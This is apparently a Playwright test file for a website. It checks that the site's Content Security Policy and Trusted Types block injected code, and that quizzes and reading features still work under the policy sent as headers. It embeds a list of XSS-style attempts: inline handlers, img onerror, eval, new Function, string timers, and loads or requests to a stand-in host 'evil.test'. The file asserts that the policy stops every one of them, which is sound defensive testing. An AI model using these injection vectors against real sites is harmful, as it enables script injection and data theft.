"""The policy in a browser: what it stops, and that all runs where a host sends it as headers."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Browser, Page, expect

from scripts.bench.server import serve
from tests.browser.quiz_keys import PROMISE, fill, hand_in, open_quiz, result, worker_begins_with
from tests.browser.reading import ARTICLE, Reader

# What an attacker would do who got past the sanitiser, as a script of the site: what a test runs by
# itself may evaluate text.
TRIES = """export async function tries() {
  const stopped = new Set();
  document.addEventListener('securitypolicyviolation', (event) => {
    stopped.add(`${event.effectiveDirective} ${event.blockedURI}`);
  });
  const p = document.body.appendChild(document.createElement('p'));
  const script = document.createElement('script');
  const other = document.createElement('script');
  const away = document.createElement('iframe');
  const tries = [
    () => { p.setAttribute('onclick', 'window.ran = 1'); p.click(); },
    () => { p.innerHTML = '<img src=x onerror="window.ran = 1">'; },
    () => { script.text = 'window.ran = 1'; document.body.append(script); },
    () => { other.src = 'https://evil.test/x.js'; },
    () => document.write('<p>'),
    () => new Worker('https://evil.test/x.js'),
    () => new Worker(URL.createObjectURL(new Blob(['']))),
    () => window.trustedTypes.createPolicy('mine', {}),
    () => setTimeout('window.ran = 1'),
    () => (0, eval)('window.ran = 1'),
    () => new Function('window.ran = 1')(),
    () => fetch('https://evil.test/').catch(() => {}),
    () => import('https://evil.test/x.js'),
    () => { new Image().src = 'https://evil.test/x.png'; },
    () => { away.src = 'https://evil.test/'; document.body.append(away); },
  ];
  let refused = 0;
  for (const attempt of tries) {
    try { await attempt(); } catch { refused += 1; }
  }
  for (let wait = 0; wait < 1000 && stopped.size < 6; wait += 1) {
    await new Promise((done) => setTimeout(done, 20));
  }
  return { refused, ran: window.ran ?? 'nothing', stopped: [...stopped].sort() };
}"""
REFUSED = 11  # raise at once; a timer's text does so or is left out when its time comes
STOPPED = [
    "connect-src https://evil.test/",
    "frame-src https://evil.test",
    "img-src https://evil.test/x.png",
    "require-trusted-types-for trusted-types-sink",
    "script-src-elem https://evil.test/x.js",
    "trusted-types trusted-types-policy",
]
WORKER_LISTENS = """self.addEventListener('securitypolicyviolation', ({ blockedURI, sample }) => {
  console.error(`policy: ${blockedURI} ${sample}`);
});
"""


def test_the_policy_stops_what_would_get_past_all_else(
    tab: Page, server: str, broken: list[str]
) -> None:
    tab.route(
        "**/tries.js", lambda route: route.fulfill(body=TRIES, content_type="text/javascript")
    )
    tab.goto(f"{server}/about/")
    found = tab.evaluate("import('/assets/js/tries.js').then(({ tries }) => tries())")
    told = len(broken)
    broken.clear()  # else the fixture would tell of them
    assert found.pop("refused") >= REFUSED
    assert found == {"ran": "nothing", "stopped": STOPPED}
    assert told >= len(STOPPED)


def told_to_hosts(site: Path) -> dict[str, str]:
    """The headers for every file, as Netlify reads them from the site's own file."""
    first, *lines = (site / "_headers").read_text("utf-8").splitlines()
    assert first == "/*"
    return dict(line.strip().split(": ", 1) for line in lines)


@pytest.fixture(scope="module")
def hosted(site: Path) -> Iterator[str]:
    """The site as a host serves it that sends its headers with every file."""
    with serve(site, headers=told_to_hosts(site)) as server:
        yield server.address


@pytest.mark.parametrize("way", ["base", "fast"])
def test_a_quiz_runs_in_both_ways_where_a_host_sends_the_policy(
    browser: Browser, hosted: str, way: str
) -> None:
    context = browser.new_context()
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda line: said.append(line.text) if line.type == "error" else None)
    worker_begins_with(page, WORKER_LISTENS)
    page.goto(f"{hosted}/quizzes/promise-check/")
    start = """async (way) => {
      const { Client } = await import('/assets/js/assessment/client.js');
      const runtime = JSON.parse(document.querySelector('mile-assessment').dataset.runtime);
      const client = new Client({ ...runtime, way });
      const { length } = await client.call('catalogue', {});
      return { way: client.measured.way, reason: client.measured.reason };
    }"""
    assert page.evaluate(start, way) == {"way": way, "reason": ""}
    open_quiz(page, hosted, "promise-check")
    fill(page, PROMISE)
    hand_in(page)
    assert result(page)["verdict"] == "broken"
    assert said == []
    context.close()


def test_a_booklet_keeps_its_own_styles(browser: Browser, hosted: str) -> None:
    page = browser.new_page()
    page.goto(f"{hosted}/wiki/alifeafterlayoff/alifeafterlayoff-questions.html")
    assert page.locator("body").evaluate("body => getComputedStyle(body).maxWidth") != "none"
    page.context.close()


def test_reading_runs_where_a_host_sends_the_policy(browser: Browser, hosted: str) -> None:
    context = browser.new_context()
    reader = Reader(context, hosted)
    page = reader.goto(ARTICLE)
    page.locator(".mm-body a[data-preview]").first.hover()
    expect(page.locator(".mm-peek")).to_contain_text("min read")
    page.locator("details[data-graph] > summary").click()
    expect(page.locator("svg.mm-drawn")).to_be_visible()
    page.locator(".mm-body a.citation").first.click()
    page.keyboard.press("/")
    page.keyboard.type("severance agreement")
    expect(page.locator(".mm-search-part > a").first).to_be_visible()
    assert reader.complaints == []
    assert reader.strangers == []
    context.close()
